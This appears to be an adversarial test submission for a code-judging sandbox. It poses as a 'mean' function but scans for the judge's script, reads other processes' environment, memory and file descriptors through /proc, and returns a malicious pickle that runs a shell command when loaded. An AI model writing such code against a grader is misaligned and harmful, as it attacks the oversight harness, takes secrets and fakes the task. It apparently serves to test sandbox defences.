# Class: importing or unpickling the judge: look for its script beside
# the candidate's folder and in every process visible, read the memory of
# any other process, and return a pickle whose loading would run code
# (tried on a differential problem, whose failure message shows the value).
import glob
import os
import pickle


class Evil:
    def __reduce__(self):
        return (os.system, ("echo pwned",))


def mean(xs):
    found = []
    for path in glob.glob("../*/judge.py") + glob.glob("/tmp/*/*/judge.py"):
        try:
            found.append(open(path).read()[:10])
        except OSError:
            pass
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as f:
                    if b"judge" not in f.read():
                        continue
            except OSError:
                continue
            for what in ("environ", "mem", "fd/3", "fd/4"):
                try:
                    with open("/proc/%s/%s" % (pid, what), "rb") as f:
                        found.append(f.read(64))
                except OSError:
                    pass
    if found:
        return ("found", found)
    return pickle.dumps(Evil())
